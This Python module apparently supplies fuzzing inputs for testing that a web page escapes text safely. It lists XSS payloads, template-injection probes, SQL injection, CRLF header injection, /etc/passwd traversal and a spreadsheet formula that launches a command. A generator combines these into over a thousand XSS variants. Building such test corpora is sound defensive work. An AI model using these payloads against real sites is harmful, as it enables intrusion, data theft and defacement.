"""Texts that a careless page would run, break on or mangle: markup, quotes, templates, controls, other scripts."""

MARK = "window.pwned=1"
PAYLOADS = (
    f"<script>{MARK}</script>",
    f"</script><script>{MARK}</script>",
    f'"><script>{MARK}</script>',
    f"'><svg onload={MARK}>",
    f"<img src=x onerror={MARK}>",
    f'" autofocus onfocus={MARK} x="',
    f"' onmouseover='{MARK}",
    f"javascript:{MARK}",
    f"JaVaScRiPt&#58;{MARK}",
    f"data:text/html,<script>{MARK}</script>",
    f"</textarea></title></style><script>{MARK}</script>",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'>",
    f'<a href="javascript:{MARK}">x</a>',
    f"<form action=javascript:{MARK}><button>",
    f"<style>@import 'javascript:{MARK}'</style>",
    f"<base href='http://evil.example/'><meta http-equiv=refresh content='0;url=javascript:{MARK}'>",
    f'<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={MARK}&gt;">',
    f"<details open ontoggle={MARK}>",
    f"<input autofocus onfocus={MARK}>",
    f'<object data="javascript:{MARK}">',
    "{{ 7919 * 104729 }} {% raw %} {# #} ${7919*104729} <%= 7919*104729 %> #{7919*104729}",
    "{{ self.__init__.__globals__ }}",
    "`${alert`1`}` \\u003cscript\\u003e \\x3cscript\\x3e",
    "%3Cscript%3E%00%0d%0aSet-Cookie:%20x=1",
    '\'; DROP TABLE journal; -- " OR ""="',
    "../../../../etc/passwd\\..\\..",
    "\u202egnirts desrever\u202c \u2066isolated\u2069 \u200b\ufeff\u00ad",
    "قصفت طائرات النظام سوق الخضار في عندان",
    "ועדה 12 של האו״ם",
    "田中さんにあげて下さい 𠜎𠜱 ᚠᛇᚻ 🇸🇾👩‍👩‍👧",
    "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮",
    "\t\x01\x08\x1b[31m\x7f\x85\u2028\u2029",
    "&lt;b&gt; &amp;amp; &#x3C;script&#x3E;",
    "-0, 1e309, NaN, undefined, null, None, true, \\",
    "=cmd|' /C calc'!A0, +1, @SUM(1)",
    "<!-- --> <![CDATA[ ]]> <?php ?> ]]>",
)

# Ways out of where a text may stand, what runs, and ways to hide it: every way out with every runner and disguise.
WAYS_OUT = (
    "", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</svg>", '" ', "' ", "` ", "</bdi></p>",
    "\\\">", "&quot;>", "%22%3E", "\u2028", "\n", "{{", "<!--",
)  # fmt: skip
RUNNERS = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg/onload={}>", "<body onload={}>",
    "<video><source onerror={}>",
    "<a href=javascript:{}>x</a>",
    "<iframe src=javascript:{}>", "<math href=javascript:{}>x",
    "<embed src=javascript:{}>",
    "<input onfocus={} autofocus>", "<details ontoggle={} open>", "<marquee onstart={}>", "<svg><animate onbegin={}>",
    "<style onload={}></style>", "<form><button formaction=javascript:{}>x", "onmouseover={} x=",
    "<svg><script href=data:,{} />", "<link rel=import href=data:text/html,{}>",
)  # fmt: skip
DISGUISES = (
    lambda text: text,
    lambda text: text.replace("<", "\u0000<", 1).replace("script", "ScRiPt"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
)


def thousand():
    """1,000 of them and more, each different."""
    built = (disguise(out + runner.format(MARK)) for disguise in DISGUISES for out in WAYS_OUT for runner in RUNNERS)
    return tuple(dict.fromkeys((*PAYLOADS, *built)))
